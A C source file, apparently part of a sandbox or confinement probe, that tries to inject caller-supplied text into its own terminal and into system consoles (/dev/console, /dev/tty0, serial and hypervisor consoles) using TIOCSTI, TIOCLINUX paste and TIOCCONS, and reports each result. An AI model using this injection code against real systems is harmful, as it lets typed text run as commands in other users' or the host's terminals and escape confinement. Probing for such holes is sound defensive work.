/* Typing into terminals: one's own, and whatever else can be opened. */
#include "payload.h"
#include <sys/ioctl.h>
#include <termios.h>

#ifndef TIOCLINUX
#define TIOCLINUX 0x541C
#endif

static void type_into(const char *name, int fd, const char *text)
{
    long result = 0;
    for (const char *byte = text; *byte && result == 0; byte++)
        result = ioctl(fd, TIOCSTI, byte);
    tell_result("TIOCSTI", name, result);
    char paste[2] = {3, 0};
    tell_result("TIOCLINUX", name, ioctl(fd, TIOCLINUX, paste));
    tell_result("TIOCCONS", name, ioctl(fd, TIOCCONS));
}

int terminal_tricks(int argc, char **argv)
{
    static const char *const paths[] = {"/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ttyS0", "/dev/hvc0"};
    const char *text = argc ? argv[0] : "x";
    for (int fd = 0; fd < 3; fd++) {
        char name[2] = {(char)('0' + fd), 0};
        type_into(name, fd, text);
    }
    for (size_t i = 0; i < COUNT(paths); i++) {
        int fd = open(paths[i], O_RDWR | O_NOCTTY | O_NONBLOCK);
        tell_result("open", paths[i], fd);
        if (fd < 0)
            continue;
        type_into(paths[i], fd, text);
        close(fd);
    }
    /* What was typed into one's own terminal is read back by oneself: drop it, so that it is no line of a result. */
    tcflush(0, TCIFLUSH);
    return 0;
}
